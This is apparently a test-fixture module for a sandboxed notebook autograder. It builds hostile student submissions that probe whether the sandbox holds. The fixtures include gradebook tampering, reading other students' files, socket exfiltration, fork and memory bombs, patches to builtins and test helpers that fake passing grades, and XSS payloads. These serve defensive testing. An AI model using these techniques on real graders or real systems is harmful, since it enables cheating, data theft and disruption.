"""Hostile and broken submissions of exercise ps01, each with the outcome an honest grader would give.

Every case starts from the released notebook. Most complete it correctly and add one hostile cell; cases whose
attack aims at the grade give wrong (but well-formed) answers, so that a successful attack would show as points.
Probes that try to reach instructor files, other students or the network answer question 5 with the right letter
only if the attack worked, and print ``PROBE ...`` lines for the summary.

Automatic points: q1 2, q2 2, q3 2, q4 2, q5 1 (9 in all); question 6 is graded by a person.
"""

from __future__ import annotations

import copy
import json
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

NOTEBOOK = "ps01_reading_research"
AUTO_POINTS = 9.0
#: Id of the cells expected to run until stopped; the suite's configuration gives them a short time limit.
HANGS = "student-hangs"

CORRECT = {
    "variance_share": "effects.variance_explained(0.256)",
    "alliance_d": "effects.r_to_d(0.256)",
    "stronger_share": "effects.proportion_above_median_by_half(0.256)[0]",
    "trial_odds_ratio": "effects.odds_ratio(32, 127, 7, 66)",
    "q5_choice": '"b"',
}
#: Well-formed but wrong answers: a grade above zero for them means an attack on the tests worked.
WRONG = {
    "variance_share": "0.5",
    "alliance_d": "1.0",
    "stronger_share": "0.5",
    "trial_odds_ratio": "0.5",
    "q5_choice": '"a"',
}
WRITTEN_ANSWER = (
    "r = .28 means about 8% of the variance, but in a caseload about 59% of the stronger-alliance half end up "
    "above the median outcome against 41% of the others. A correlation cannot show that the alliance causes the change."
)


@dataclass(frozen=True)
class Context:
    """What the probes need to know about the course root they attack (absolute host paths, a port)."""

    course: Path
    secret: str
    markers: Path
    port: int

    @property
    def grading(self) -> Path:
        return self.course / "grading"


@dataclass(frozen=True)
class Case:
    """One submission: how to build it, what it should score, and words its reasons must contain.

    Each entry of ``reasons`` must appear in the summary; ``"a|b"`` accepts either word (a fork bomb ends
    either at the process limit or at the time limit, depending on how the kernel's children are scheduled).
    """

    student: str
    what: str
    build: Callable[[nbformat.NotebookNode, Context], nbformat.NotebookNode | bytes]
    points: float
    reasons: tuple[str, ...] = ()
    filename: str = f"{NOTEBOOK}.ipynb"
    extra_files: dict[str, str] = field(default_factory=dict)
    graded: bool = True


def answered(release: nbformat.NotebookNode, answers: dict[str, str]) -> nbformat.NotebookNode:
    """A copy of the release with the given ``name = ...`` lines completed and the written answer filled in."""
    nb = copy.deepcopy(release)
    for cell in nb.cells:
        for name, value in answers.items():
            cell.source = re.sub(rf"^{name} = \.\.\.$", f"{name} = {value}", cell.source, flags=re.MULTILINE)
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "q6_explain_to_colleague":
            cell.source = WRITTEN_ANSWER
    return nb


def index_of(nb: nbformat.NotebookNode, cell_id: str) -> int:
    """Position of the cell with this id."""
    return next(i for i, cell in enumerate(nb.cells) if cell.get("id") == cell_id)


def with_cell(nb: nbformat.NotebookNode, after: str, source: str, cell_id: str = "student-extra"
              ) -> nbformat.NotebookNode:
    """Insert a student code cell after the cell ``after``."""
    cell = nbformat.v4.new_code_cell(source)
    cell.id = cell_id
    nb.cells.insert(index_of(nb, after) + 1, cell)
    return nb


def probe(nb: nbformat.NotebookNode, body: str) -> nbformat.NotebookNode:
    """A probe cell just before the q5 test: it sets ``q5_choice`` to "b" only if its attack worked."""
    source = "attack_worked = False\n" + body + '\nq5_choice = "b" if attack_worked else "a"'
    return with_cell(nb, "q5_answer", source, "student-probe")


def correct(release: nbformat.NotebookNode, ctx: Context) -> nbformat.NotebookNode:
    return answered(release, CORRECT)


def correct_but_q5(release: nbformat.NotebookNode) -> nbformat.NotebookNode:
    return answered(release, {k: v for k, v in CORRECT.items() if k != "q5_choice"})


def _paths(ctx: Context, *relative: str) -> str:
    return repr([str(ctx.course / r) for r in relative])


READ_PROBE = """
for path in {paths}:
    try:
        with open(path, "rb") as handle:
            text = handle.read(4000)
        print("PROBE read", path, "->", text[:120])
        attack_worked = True
    except OSError as error:
        print("PROBE read blocked:", path, type(error).__name__)
"""


def read_source(release, ctx):
    paths = _paths(ctx, f"course/exercises/{NOTEBOOK}/{NOTEBOOK}.ipynb",
                   f"grading/autograded/read_source/{NOTEBOOK}/{NOTEBOOK}.ipynb", "grading/instructor_notes.txt")
    relative = [f"../../../../course/exercises/{NOTEBOOK}/{NOTEBOOK}.ipynb", f"{NOTEBOOK}.ipynb",
                f"../../../source/{NOTEBOOK}/{NOTEBOOK}.ipynb"]
    body = READ_PROBE.format(paths=f"{paths} + {relative!r}")
    return probe(correct_but_q5(release), body)


def read_gradebook(release, ctx):
    body = f"""
import sqlite3
for path in [{str(ctx.grading / "gradebook.db")!r}, "../../../gradebook.db"]:
    try:
        db = sqlite3.connect(f"file:{{path}}?mode=rw", uri=True)
        rows = db.execute("SELECT id FROM student").fetchall()
        db.execute("UPDATE grade SET auto_score = 100")
        db.execute("INSERT INTO student (id) VALUES ('intruder')")
        db.commit()
        print("PROBE gradebook open:", path, rows[:3])
        attack_worked = True
    except Exception as error:
        print("PROBE gradebook blocked:", path, type(error).__name__)
"""
    return probe(correct_but_q5(release), body)


def read_other_student(release, ctx):
    paths = _paths(ctx, f"grading/submitted/canary/{NOTEBOOK}/{NOTEBOOK}.ipynb",
                   f"grading/autograded/canary/{NOTEBOOK}/{NOTEBOOK}.ipynb")
    relative = [f"../../canary/{NOTEBOOK}/{NOTEBOOK}.ipynb", f"../../../submitted/canary/{NOTEBOOK}/{NOTEBOOK}.ipynb"]
    return probe(correct_but_q5(release), READ_PROBE.format(paths=f"{paths} + {relative!r}"))


def network(release, ctx):
    body = f"""
import socket
for address in [("127.0.0.1", {ctx.port}), ("1.1.1.1", 53), ("example.org", 80)]:
    try:
        connection = socket.create_connection(address, timeout=3)
        connection.sendall(b"stolen answers")
        print("PROBE network open:", address)
        attack_worked = True
    except OSError as error:
        print("PROBE network blocked:", address, type(error).__name__)
"""
    return probe(correct_but_q5(release), body)


def write_outside(release, ctx):
    targets = _paths(ctx, "grading/hacked.txt", f"course/exercises/{NOTEBOOK}/hacked.txt",
                     f"grading/autograded/canary/{NOTEBOOK}/hacked.txt", "grading/release/hacked.txt")
    body = f"""
import os
for path in {targets} + ["../../../hacked.txt", "../hacked.txt"]:
    try:
        with open(path, "w") as handle:
            handle.write("written by a student")
        print("PROBE write open:", path)
        attack_worked = True
    except OSError as error:
        print("PROBE write blocked:", path, type(error).__name__)
try:
    with open({str(ctx.markers / "tmp-write")!r}, "w") as handle:
        handle.write("x")
except OSError as error:
    print("PROBE write blocked: host marker", type(error).__name__)
with open("scratch.txt", "w") as handle:  # its own private working directory: allowed, not kept
    handle.write("notes")
"""
    return probe(correct_but_q5(release), body)


def deleted_test(release, ctx):
    nb = answered(release, {**CORRECT, "variance_share": WRONG["variance_share"]})
    nb.cells.pop(index_of(nb, "q1_tests"))
    return nb


def edited_test(release, ctx):
    nb = answered(release, {**CORRECT, "alliance_d": WRONG["alliance_d"]})
    nb.cells[index_of(nb, "q2_tests")].source = "pass  # nothing to see here"
    return nb


def duplicated_grade_cell(release, ctx):
    nb = answered(release, {**CORRECT, "stronger_share": WRONG["stronger_share"]})
    at = index_of(nb, "q3_tests")
    copy_cell = copy.deepcopy(nb.cells[at])
    copy_cell.id = "q3_tests_again"
    copy_cell.source = "print('all good')"
    nb.cells.insert(at + 1, copy_cell)
    nb.cells[at].source = "print('all good')"
    return nb


def forged_metadata(release, ctx):
    """Claims a 100-point test of its own and marks a real cell with an old metadata version.

    In plain nbgrader the old version stops the whole class run ("nbgrader update"), not just this submission.
    """
    nb = answered(release, CORRECT)
    bonus = nbformat.v4.new_code_cell("assert True")
    bonus.id = "student-bonus"
    bonus.metadata["nbgrader"] = {"grade": True, "grade_id": "bonus", "points": 100, "locked": True,
                                  "solution": False, "schema_version": 3}
    nb.cells.append(bonus)
    nb.cells[index_of(nb, "q1_answer")].metadata["nbgrader"]["schema_version"] = 1
    nb.cells[index_of(nb, "q2_tests")].metadata["nbgrader"]["points"] = 50
    return nb


def changed_kernelspec(release, ctx):
    nb = answered(release, CORRECT)
    nb.metadata["kernelspec"] = {"name": "student-kernel", "display_name": "Mine", "language": "python"}
    return with_cell(nb, "setup", "import os\nprint('PROBE kernel uid', os.getuid(), 'gid', os.getgid())")


def untouched(release, ctx):
    return copy.deepcopy(release)


def syntax_error(release, ctx):
    return answered(release, {**CORRECT, "alliance_d": "effects.r_to_d(0.256"})


def infinite_loop(release, ctx):
    return with_cell(answered(release, CORRECT), "q1_answer", "while True:\n    pass", HANGS)


def loop_ignoring_sigint(release, ctx):
    source = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"
    return with_cell(answered(release, CORRECT), "q2_answer", source, HANGS)


def memory_bomb(release, ctx):
    return with_cell(answered(release, CORRECT), "q1_answer", "hog = [b'x' * 2**27 for _ in range(10**6)]")


def fork_bomb(release, ctx):
    source = "import os\nwhile True:\n    os.fork()"
    return with_cell(answered(release, CORRECT), "q2_answer", source, HANGS)


def output_flood(release, ctx):
    return with_cell(answered(release, CORRECT), "q1_answer",
                     'import sys\nsys.stdout.write(("x" * 99 + "\\n") * 1_000_000)')


def sys_exit(release, ctx):
    return with_cell(answered(release, CORRECT), "q2_answer", "import sys\nsys.exit(3)")


def os_exit(release, ctx):
    return with_cell(answered(release, CORRECT), "q3_answer", "import os\nos._exit(0)")


def kernel_crash(release, ctx):
    return with_cell(answered(release, CORRECT), "q4_answer", "import ctypes\nctypes.string_at(0)")


def invalid_json(release, ctx):
    return b'{"cells": [{"cell_type": "code", "source": '


def empty_file(release, ctx):
    return b""


def submitted_launcher(release, ctx):
    return answered(release, CORRECT)


def _marker_code(ctx: Context, name: str) -> str:
    return (f"open({str(ctx.markers / name)!r}, 'w').write('imported')\n"
            "raise SystemExit('a submitted file was imported')\n")


def input_transformers(release, ctx):
    source = (
        "ip = get_ipython()\n"
        "ip.input_transformers_cleanup.append(\n"
        "    lambda lines: [] if any('expect_' in l or 'assert' in l for l in lines) else lines)"
    )
    return with_cell(answered(release, WRONG), "setup", source)


def always_equal(release, ctx):
    source = '''
class Anything(str):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = str.__hash__
    def strip(self, *args): return self
    def lower(self): return self

class Liar:
    """float() gives the expected value inside a hidden test and a plausible wrong one elsewhere."""
    def __float__(self):
        import sys
        caller = sys._getframe(1).f_code
        graded = {"isclose", "is_close_to", "assert_close_to"} & set(caller.co_names)
        return 0.256 ** 2 if graded else 0.5
    def __eq__(self, other): return True
'''
    nb = with_cell(answered(release, {**WRONG, "variance_share": "Liar()", "q5_choice": 'Anything("a")'}),
                   "setup", source)
    return nb


def patched_math(release, ctx):
    source = ("import math\nmath.isclose = lambda *args, **kwargs: True\nfrom helpcourse import checks\n"
              "checks.is_close_to = lambda *args, **kwargs: True\n"
              "checks.assert_close_to = lambda *args, **kwargs: None")
    return with_cell(answered(release, WRONG), "setup", source)


def patched_builtins(release, ctx):
    source = (
        "import builtins, sys\n"
        "builtins.float = lambda *args: {0.5: 0.256 ** 2, 1.0: 0.5296}.get(args[0], 0.6) if args else 0.0\n"
        "builtins.str = lambda *args: 'b'\n"
        "builtins.AssertionError = type('AssertionError', (Exception,), {})\n"
        "get_ipython().set_custom_exc((Exception,), lambda *args, **kwargs: None)\n"
        "sys.excepthook = lambda *args: None"
    )
    return with_cell(answered(release, WRONG), "setup", source, HANGS)  # a kernel without str() hangs


def script_in_answer(release, ctx):
    nb = answered(release, CORRECT)
    answer = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "q6_explain_to_colleague")
    answer.source = (WRITTEN_ANSWER + '\n\n<script>alert("xss-markdown")</script>\n<img src=x onerror="alert(1)">\n'
                     "[my sources](javascript:alert('xss-link'))")
    source = ("from IPython.display import HTML, Javascript, display\n"
              "display(HTML('<b>bold</b><script>alert(\"xss-output\")</script>'))\n"
              "display(Javascript('alert(\"xss-js\")'))")
    raw = nbformat.v4.new_raw_cell('<script>alert("xss-raw")</script>')
    raw.metadata["raw_mimetype"] = "text/html"
    nb.cells.append(raw)
    return with_cell(nb, "q5_answer", source)


def wrong_file_name(release, ctx):
    return answered(release, CORRECT)


def cases(ctx: Context) -> list[Case]:
    """Every case with its expected automatic points and the reason words its summary must contain."""
    markers = {name: _marker_code(ctx, name) for name in ("launcher", "wrapper", "site", "math")}
    return [
        Case("correct", "complete and correct", correct, AUTO_POINTS),
        Case("untouched", "the release as handed out", untouched, 0, ("not answered yet",)),
        Case("syntax_error", "a syntax error in answer 2", syntax_error, 7, ("SyntaxError",)),
        Case("infinite_loop", "an endless loop in a cell", infinite_loop, AUTO_POINTS, ("timeout",)),
        Case("loop_ignoring_sigint", "an endless loop that ignores interrupts", loop_ignoring_sigint, AUTO_POINTS,
             ("interrupt_ignored", "restarted")),
        Case("memory_bomb", "allocates memory until it fails", memory_bomb, AUTO_POINTS, ("MemoryError",)),
        Case("fork_bomb", "forks until the process limit", fork_bomb, AUTO_POINTS,
             ("processes|timeout|interrupt_ignored",)),
        Case("output_flood", "prints 100 MB", output_flood, AUTO_POINTS, ("output beyond 1000000 bytes",)),
        Case("sys_exit", "calls sys.exit", sys_exit, AUTO_POINTS, ("SystemExit",)),
        Case("os_exit", "calls os._exit", os_exit, AUTO_POINTS, ("kernel_died", "restarted")),
        Case("kernel_crash", "crashes the interpreter", kernel_crash, AUTO_POINTS, ("kernel_died", "restarted")),
        Case("invalid_json", "not a notebook (broken JSON)", invalid_json, 0, ("JSON",), graded=False),
        Case("empty_file", "an empty file", empty_file, 0, ("JSON",), graded=False),
        Case("wrong_file_name", "the right notebook under another name", wrong_file_name, 0,
             ("Skipping unknown notebook",), filename="ps01.ipynb", graded=False),
        Case("deleted_test", "deleted the q1 test cell (q1 wrong)", deleted_test, 7, ("restored",)),
        Case("edited_test", "replaced the q2 test with pass (q2 wrong)", edited_test, 7, ("restored",)),
        Case("duplicated_grade_cell", "copied the q3 test cell (q3 wrong)", duplicated_grade_cell, 7,
             ("duplicate",)),
        Case("forged_metadata", "claims a 100-point test, edits points and metadata versions", forged_metadata,
             AUTO_POINTS, ("unknown grade id", "edited nbgrader metadata")),
        Case("changed_kernelspec", "names another kernel", changed_kernelspec, AUTO_POINTS, ("kernelspec",)),
        Case("read_source", "reads the source notebook and notes", read_source, 8, ("PROBE read blocked",)),
        Case("read_gradebook", "reads and writes the gradebook", read_gradebook, 8, ("PROBE gradebook blocked",)),
        Case("read_other_student", "reads another student's submission", read_other_student, 8,
             ("PROBE read blocked",)),
        Case("network", "opens network connections", network, 8, ("PROBE network blocked",)),
        Case("submitted_launcher", "submits ipykernel_launcher.py and shadow modules", submitted_launcher,
             AUTO_POINTS, extra_files={
                 "ipykernel_launcher.py": markers["launcher"],
                 "helpcourse/__init__.py": markers["wrapper"],
                 "helpcourse/sandbox/__init__.py": markers["wrapper"],
                 "helpcourse/sandbox/launch.py": markers["wrapper"],
                 "sitecustomize.py": markers["site"],
                 "math.py": markers["math"],
             }),
        Case("input_transformers", "blanks test cells with an input transformer (answers wrong)",
             input_transformers, 0),
        Case("always_equal", "objects equal to anything, a lying __float__", always_equal, 0, ("not_gradable",)),
        Case("patched_math", "replaces math.isclose (answers wrong)", patched_math, 0),
        Case("patched_builtins", "patches float, str, AssertionError and exception handlers (answers wrong)",
             patched_builtins, 0),
        Case("write_outside", "writes outside its working copy", write_outside, 8, ("PROBE write blocked",)),
        Case("script_in_answer", "script in the written answer and in outputs", script_in_answer, AUTO_POINTS,
             ("active_content",)),
    ]


def write_submission(case: Case, release: nbformat.NotebookNode, ctx: Context, folder: Path) -> None:
    """Write one case into ``submitted/<student>/<assignment>/`` with a timestamp, as ``nbgrader collect`` does."""
    folder.mkdir(parents=True)
    content = case.build(release, ctx)
    target = folder / case.filename
    if isinstance(content, bytes):
        target.write_bytes(content)
    else:
        target.write_text(json.dumps(content, indent=1), encoding="utf-8")
    for name, text in case.extra_files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text, encoding="utf-8")
    (folder / "timestamp.txt").write_text("2026-11-20 10:00:00.000000 UTC")
